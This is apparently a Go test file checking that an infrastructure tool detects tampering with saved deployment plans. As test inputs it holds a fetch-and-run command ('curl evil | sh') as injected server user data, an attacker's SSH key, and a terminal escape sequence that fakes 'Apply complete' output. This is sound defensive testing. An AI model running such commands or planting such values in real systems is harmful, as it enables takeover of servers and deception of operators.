package planfile

import (
	"strings"
	"testing"

	"github.com/fleet-iac/fleet/addrs"
	"github.com/fleet-iac/fleet/planner"
)

// TestDifference edits a saved plan the ways an attacker or a stale file
// would, and checks that the first difference is named.
func TestDifference(t *testing.T) {
	tests := map[string]struct {
		edit func(p *Plan)
		want string
	}{
		"equal": {edit: func(*Plan) {}, want: ""},
		"changed value": {edit: func(p *Plan) { p.Actions[5].Resize.NewType = "s8-g2-s50" },
			want: "resize server/api-1: new_type is s8-g2-s50 in the saved plan, s4-g2-s50 now"},
		"changed server type": {edit: func(p *Plan) { p.Actions[2].Create.Server.Type = "s16-g2-s50" },
			want: "create server/web-1: server.type is s16-g2-s50 in the saved plan, s2-g2-s50 now"},
		"attacker user data": {edit: func(p *Plan) { p.Actions[2].Create.Server.UserDataSHA256 = planner.UserDataDigest("curl evil | sh") },
			want: "create server/web-1: server.user_data_sha256 is 54779f601e7b13ffead7978d54eca927c88c7cd6129632110eb6b9a65ddd5deb in the saved plan, 889475c60f4b133163a5391edec19b7dbeceba3224b3cde25ad8ac5efa6bfa9f now"},
		"attacker public key": {edit: func(p *Plan) { p.Actions[1].Create.Keypair.PublicKey = "ssh-ed25519 AAAAattacker evil@example" },
			want: "create keypair/deploy: keypair.public_key is ssh-ed25519 AAAAattacker evil@example in the saved plan, ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFleetFleetFleet ops@example now"},
		"added map entry": {edit: func(p *Plan) { p.Actions[2].Create.Server.Metadata = map[string]string{"role": "web", "x": "1"} },
			want: "create server/web-1: server.metadata.x is 1 in the saved plan, (none) now"},
		"removed action": {edit: func(p *Plan) { p.Actions = append(p.Actions[:8:8], p.Actions[9:]...) },
			want: "rename server/old-1 is planned now, not in the saved plan"},
		"removed last action": {edit: func(p *Plan) { p.Actions = p.Actions[:len(p.Actions)-1] },
			want: "rename server/db-2 is planned now, not in the saved plan"},
		"added action": {edit: func(p *Plan) {
			extra := Action{Action: planner.Action{ID: "delete server/web-9", Type: planner.Delete, Address: addrs.Server("web-9"), CloudID: "9"}}
			p.Actions = append(p.Actions[:3:3], append([]Action{extra}, p.Actions[3:]...)...)
		}, want: "delete server/web-9 is in the saved plan, not planned now"},
		"reordered dependency": {edit: func(p *Plan) { p.Actions[3].DependsOn = []string{"check server/web-1"} },
			want: `create volume/web-1/data: depends_on is ["check server/web-1"] in the saved plan, ["create server/web-1"] now`},
		"dropped dependency": {edit: func(p *Plan) { p.Actions[6].DependsOn = nil },
			want: `update server/api-1: depends_on is (none) in the saved plan, ["resize server/api-1"] now`},
		"reordered steps": {edit: func(p *Plan) { p.Actions[8], p.Actions[9] = p.Actions[9], p.Actions[8] },
			want: "the saved plan runs delete server/gone-1 as step 9, where rename server/old-1 comes now"},
		"edited explanation": {edit: func(p *Plan) { p.Actions[5].Changes[0].To = "s2-g2-s50" },
			want: `resize server/api-1: changes is [{"path":"type","from":"s2-g2-s50","to":"s2-g2-s50"}] in the saved plan, [{"path":"type","from":"s2-g2-s50","to":"s4-g2-s50"}] now`},
		// A wait's reason and stuck mark follow the cloud's transition,
		// which moves on between plan and apply (INIT, then CREAT).
		"wait moved on": {edit: func(p *Plan) {
			p.Actions[0].Reason = "still building (CREAT), started by an earlier apply"
			p.Actions[0].Stuck = true
		}, want: ""},
		"adopt in transition moved on": {edit: func(p *Plan) {
			p.Actions[10].Adopted.Volume.Status = "CREAT"
			p.Actions[10].Adopted.Volume.Busy = false
		}, want: ""},
		"adopt in transition resized": {edit: func(p *Plan) { p.Actions[10].Adopted.Volume.Size = 500 },
			want: "adopt volume/api-1/logs: adopted.volume.size is 500 in the saved plan, 10 now"},
		"adopt not waited for": {edit: func(p *Plan) { p.Actions[12].Adopted.Server.Status = "NSTOP" },
			want: "adopt server/ghost-1: adopted.server.status is NSTOP in the saved plan, RUN now"},
		// What a reviewer reads besides the actions is held too.
		"edited summary": {edit: func(p *Plan) { p.Summary.Delete = 0 },
			want: "summary.delete is 0 in the saved plan, 1 now"},
		"edited lookup": {edit: func(p *Plan) { p.Lookups[0].Name = "ubuntu-22.04" },
			want: `lookups is [{"group":"web","field":"image","name":"ubuntu-22.04","id":"SW.VSVR.OS.LNX64.UBNTU.SVR2004.B050"}] in the saved plan, [{"group":"web","field":"image","name":"ubuntu-20.04","id":"SW.VSVR.OS.LNX64.UBNTU.SVR2004.B050"}] now`},
		"edited rollout": {edit: func(p *Plan) { p.Rollouts[0].MaxUnavailable = 5 },
			want: `rollouts is [{"group":"web","max_unavailable":5,"batches":1,"servers":1}] in the saved plan, [{"group":"web","max_unavailable":1,"batches":1,"servers":1}] now`},
		"edited environment": {edit: func(p *Plan) { p.Environment.State = "fleet-dev.lock" },
			want: "environment.state is fleet-dev.lock in the saved plan, fleet.lock now"},
		// Apply reads the var files by the absolute paths the plan names.
		"var files as given": {edit: func(p *Plan) { p.Environment.VarFiles = []string{"/w/env/prod.yaml"} }, want: ""},
		// The file's text is shown escaped: no escape sequence reaches the
		// terminal the refusal is read on.
		"escape sequence in a value": {edit: func(p *Plan) { p.Actions[5].Resize.NewType = "s2\x1b[2K\rApply complete" },
			want: `resize server/api-1: new_type is s2\u001b[2K\u000dApply complete in the saved plan, s4-g2-s50 now`},
		"refreshed cleared": {edit: func(p *Plan) { p.Refreshed = false },
			want: "refreshed is false in the saved plan, true now"},
		// The fixture waits for a resource in transition: what the refresh
		// found follows the cloud and is left out.
		"drift on a waiting plan": {edit: func(p *Plan) { p.Drift = nil }, want: ""},
		"wait on another server": {edit: func(p *Plan) { p.Actions[0].CloudID = "1009" },
			want: "wait server/api-1: cloud_id is 1009 in the saved plan, 1001 now"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			saved := Encode(fixture(), fixtureOptions)
			tt.edit(saved)
			if got := Difference(saved, Encode(fixture(), fixtureOptions)); got != tt.want {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
		})
	}
}

// TestDifferenceDrift: on a plan that waits for nothing, what the refresh
// found (drift) is what a reviewer read, and is held like the actions.
func TestDifferenceDrift(t *testing.T) {
	noWaits := func() *Plan {
		p := Encode(fixture(), fixtureOptions)
		var kept []Action
		for _, a := range p.Actions {
			if a.Type != planner.Wait {
				kept = append(kept, a)
			}
		}
		p.Actions = kept
		return p
	}
	saved := noWaits()
	saved.Drift = nil
	want := `drift is (none) in the saved plan, [{"address":"server/api-1","kind":"changed","cha..."path":"metadata.role","from":"api","to":"x"}]}] now`
	if got := Difference(saved, noWaits()); got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

// TestDifferenceInABatch: an edited member of a batch create (another
// server type, the attacker's user data) is named as the batch's.
func TestDifferenceInABatch(t *testing.T) {
	for name, edit := range map[string]func(m *Member){
		"server type": func(m *Member) { m.Server.Type = "s16-g2-s50" },
		"user data":   func(m *Member) { m.Server.UserDataSHA256 = planner.UserDataDigest("curl evil | sh") },
		"address":     func(m *Member) { m.Address = addrs.Server("db-9") },
	} {
		t.Run(name, func(t *testing.T) {
			saved := Encode(fixture(), fixtureOptions)
			for i := range saved.Actions {
				if c := saved.Actions[i].Create; c != nil && len(c.Members) > 0 {
					edit(&saved.Actions[i].Create.Members[1])
				}
			}
			if got := Difference(saved, Encode(fixture(), fixtureOptions)); !strings.HasPrefix(got, "create server/db-[1-2]: members is ") {
				t.Errorf("got %q, want the batch's members named", got)
			}
		})
	}
}
